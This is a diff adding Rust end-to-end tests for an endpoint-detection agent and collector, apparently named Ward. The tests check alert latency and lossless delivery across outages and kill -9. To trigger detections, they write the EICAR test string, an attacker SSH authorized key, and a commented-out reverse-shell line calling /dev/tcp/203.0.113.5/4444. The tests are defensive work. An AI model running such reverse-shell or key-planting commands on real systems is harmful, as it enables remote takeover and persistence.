@@ -1,0 +1,193 @@
+//! End to end with real collector and agent processes, the agent watching a
+//! temporary directory: detections reach the collector's API within 2 s, and
+//! nothing is lost or doubled across a collector outage or an agent kill -9.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use std::time::{Duration, Instant};
+
+use ward_tests::*;
+
+const EICAR: &[u8] = br"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
+
+/// The outbox depth `ward-agent status` reports.
+fn outbox_depth(status: &str) -> u64 {
+    status
+        .lines()
+        .find_map(|l| l.strip_prefix("outbox: "))
+        .and_then(|l| l.split_whitespace().next())
+        .and_then(|n| n.parse().ok())
+        .unwrap_or(0)
+}
+
+fn rule_title(a: &serde_json::Value) -> String {
+    a["rule"]["title"].as_str().unwrap_or_default().to_lowercase()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn detections_reach_the_api_within_two_seconds() {
+    let collector = Collector::start().unwrap();
+    let agent = Agent::start(&collector).unwrap();
+    agent.wait_connected(Duration::from_secs(15)).unwrap();
+    let dev = agent.device_id.clone();
+
+    // The EICAR test file, matched by its SHA-256.
+    let t = Instant::now();
+    std::fs::write(agent.watch.join("invoice.pdf.exe"), EICAR).unwrap();
+    let alert = collector
+        .wait_alert(&dev, Duration::from_secs(2), |a| {
+            a["entities"].as_array().is_some_and(|e| {
+                e.iter()
+                    .any(|e| e["sha256"] == "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f")
+            })
+        })
+        .await
+        .unwrap();
+    eprintln!("EICAR alert after {:?}: {}", t.elapsed(), alert["rule"]["title"]);
+    assert_eq!(alert["rule"]["author"], "Ward");
+    assert!(
+        alert["entities"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|e| e["kind"] == "device")
+    );
+
+    // A new SSH authorized key.
+    let ssh = agent.watch.join("home/alice/.ssh");
+    std::fs::create_dir_all(&ssh).unwrap();
+    tokio::time::sleep(Duration::from_millis(300)).await; // the new directory gets its watch
+    let t = Instant::now();
+    std::fs::write(
+        ssh.join("authorized_keys"),
+        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB attacker@evil\n",
+    )
+    .unwrap();
+    let alert = collector
+        .wait_alert(&dev, Duration::from_secs(2), |a| {
+            a["matched"].to_string().contains("authorized_keys") || rule_title(a).contains("authorized")
+        })
+        .await
+        .unwrap();
+    eprintln!(
+        "authorized_keys alert after {:?}: {}",
+        t.elapsed(),
+        alert["rule"]["title"]
+    );
+    assert!(alert["rule"]["techniques"].to_string().contains("T1098"), "{alert}");
+
+    // A command line that looks like a reverse shell.
+    let t = Instant::now();
+    let mut child = std::process::Command::new("/bin/sh")
+        .args(["-c", "sleep 1 # bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"])
+        .spawn()
+        .unwrap();
+    let alert = collector
+        .wait_alert(&dev, Duration::from_secs(2), |a| {
+            a["matched"].to_string().contains("/dev/tcp/")
+        })
+        .await
+        .unwrap();
+    eprintln!(
+        "reverse shell alert after {:?}: {}",
+        t.elapsed(),
+        alert["rule"]["title"]
+    );
+    let _ = child.wait();
+    assert_eq!(alert["severity"], "high");
+    assert!(
+        alert["entities"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|e| e["kind"] == "process")
+    );
+    assert!(
+        alert["entities"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|e| e["kind"] == "ip" && e["addr"] == "203.0.113.5")
+    );
+}
+
+/// Stop the collector, cause 1,000 alerts, start it again: all 1,000 arrive,
+/// once each. Then kill -9 the agent while it sends: nothing doubles or goes missing.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn offline_alerts_arrive_once_and_survive_agent_kill() {
+    let mut collector = Collector::start().unwrap();
+    let mut agent = Agent::start(&collector).unwrap();
+    agent.wait_connected(Duration::from_secs(15)).unwrap();
+    let dev = agent.device_id.clone();
+
+    collector.stop().unwrap();
+    // 1,000 distinct EICAR drops: distinct files are distinct alerts (no aggregation).
+    for i in 0..1000 {
+        std::fs::write(agent.watch.join(format!("drop-{i:04}.bin")), EICAR).unwrap();
+        if i % 100 == 99 {
+            std::thread::sleep(Duration::from_millis(50));
+        }
+    }
+    // Wait until the agent has all of them in its outbox.
+    let deadline = Instant::now() + Duration::from_secs(60);
+    loop {
+        let status = agent.status().unwrap();
+        if outbox_depth(&status) >= 1000 {
+            break;
+        }
+        assert!(Instant::now() < deadline, "outbox never reached 1000: {status}");
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+    collector.serve().unwrap();
+    let deadline = Instant::now() + Duration::from_secs(60);
+    while collector.alert_counts(&dev, "drop-").unwrap().0 < 1000 {
+        assert!(
+            Instant::now() < deadline,
+            "only {:?} arrived",
+            collector.alert_counts(&dev, "drop-").unwrap()
+        );
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+    assert_eq!(collector.alert_counts(&dev, "drop-").unwrap(), (1000, 1000));
+
+    // kill -9 the agent in the middle of sending a second burst.
+    collector.stop().unwrap();
+    for i in 0..500 {
+        std::fs::write(agent.watch.join(format!("second-{i:04}.bin")), EICAR).unwrap();
+    }
+    let deadline = Instant::now() + Duration::from_secs(60);
+    while outbox_depth(&agent.status().unwrap()) < 500 {
+        assert!(
+            Instant::now() < deadline,
+            "outbox never reached 500: {}",
+            agent.status().unwrap()
+        );
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+    collector.serve().unwrap();
+    let deadline = Instant::now() + Duration::from_secs(30);
+    while collector.alert_counts(&dev, "second-").unwrap().0 < 100 {
+        assert!(Instant::now() < deadline, "the second burst did not start arriving");
+        tokio::time::sleep(Duration::from_millis(10)).await;
+    }
+    agent.kill9();
+    agent.run().unwrap();
+    let deadline = Instant::now() + Duration::from_secs(60);
+    while collector.alert_counts(&dev, "second-").unwrap().0 < 500 {
+        assert!(
+            Instant::now() < deadline,
+            "only {:?} arrived after the kill",
+            collector.alert_counts(&dev, "second-").unwrap()
+        );
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+    tokio::time::sleep(Duration::from_secs(1)).await;
+    assert_eq!(collector.alert_counts(&dev, "second-").unwrap(), (500, 500));
+    assert_eq!(collector.alert_counts(&dev, "drop-").unwrap(), (1000, 1000));
+    let gaps: i64 = collector
+        .db()
+        .unwrap()
+        .query_row("SELECT COUNT(*) FROM sequence_gaps", [], |r| r.get(0))
+        .unwrap();
+    assert_eq!(gaps, 0);
+}
